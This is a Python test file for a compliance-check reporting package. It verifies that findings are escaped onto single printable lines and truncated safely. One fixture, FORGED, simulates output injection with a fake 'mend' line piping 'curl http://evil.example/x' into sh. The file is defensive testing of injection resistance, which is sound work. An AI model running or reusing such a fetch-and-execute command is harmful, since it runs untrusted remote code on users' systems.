# SPDX-License-Identifier: Apache-2.0
"""Nothing from outside makes a line of its own, or fills a page, by whatever finding, remark or cause it comes."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pytest_scs.base.words import LONGEST, cut_quoted, printable, shown
from pytest_scs.core.cause import Cause, Inconclusive
from pytest_scs.core.findings import Finding, Remark, Undecided, show

FORGED = "SCS-x\nscs-0100  Flavor names   2 PASS\n    mend: curl http://evil.example/x | sh\n#"


def observations(text: str) -> list[object]:
    return [
        Finding(text, "rule", text, text, hint=text, resource_id=text, title=text),
        Undecided(text, text, resource_id=text),
        Remark(text, text),
        Cause(text),
        Inconclusive(text).cause,
    ]


@given(st.text())
def test_everything_is_on_one_line(text: str) -> None:
    for observation in observations(text):
        assert str(observation).isprintable()


@pytest.mark.parametrize(
    ("char", "escape"),
    [
        ("\n", "\\n"),
        ("\t", "\\t"),
        ("\r", "\\r"),
        ("\x00", "\\x00"),
        ("\x1b", "\\x1b"),
        ("\x85", "\\x85"),
        ("\xa0", "\\xa0"),
        ("\u2028", "\\u2028"),
        ("\u2029", "\\u2029"),
        ("\u202e", "\\u202e"),
        ("\u2066", "\\u2066"),
        ("\u200b", "\\u200b"),
        ("\ufeff", "\\ufeff"),
        ("\ud800", "\\ud800"),
        ("\U000e0001", "\\U000e0001"),
        (" ", " "),
        ("ü", "ü"),
        ("日", "日"),
    ],
)
def test_what_a_reader_cannot_see_is_an_escape(char: str, escape: str) -> None:
    assert printable(f"a{char}  b") == f"a{escape}  b"


def test_a_forged_line_stays_a_name() -> None:
    finding = Finding(f"flavor {FORGED}", "rule", "x", show(FORGED), resource_id="bad")
    assert str(finding).startswith("flavor SCS-x\\nscs-0100  Flavor names   2 PASS\\n    mend: curl")
    assert "(bad)" in str(finding)


def test_a_value_shows_at_most_200_characters_and_the_id_is_whole() -> None:
    finding = Finding("n" * 10_000, "rule", "x", show("v" * 10_000), hint="h" * 10_000, resource_id="i" * 300)
    assert len(finding.resource) == LONGEST
    assert len(finding.observed) == LONGEST
    assert finding.resource_id == "i" * 300
    assert finding.hint == "h" * 10_000
    assert " [cut] " in finding.resource


@pytest.mark.parametrize("quote", ["'", '"'])
def test_a_quoted_value_in_a_sentence_is_cut(quote: str) -> None:
    text = f"the cloud's value {quote}{'x' * 5000}{quote} and {quote}y{quote}"
    assert len(cut_quoted(text)) < 300
    assert cut_quoted(text).endswith(f" and {quote}y{quote}")


def test_a_long_sentence_with_apostrophes_stays() -> None:
    text = "the cloud's " + "word " * 100 + "isn't the user's"
    assert cut_quoted(text) == text


@given(st.text(), st.integers(20, 300))
def test_shown_is_short_and_printable(text: str, most: int) -> None:
    assert len(shown(text, most)) <= most
    assert shown(text, most).isprintable()


@given(st.text())
def test_doing_it_twice_changes_nothing(text: str) -> None:
    assert printable(printable(text)) == printable(text)
    assert shown(shown(text)) == shown(text)
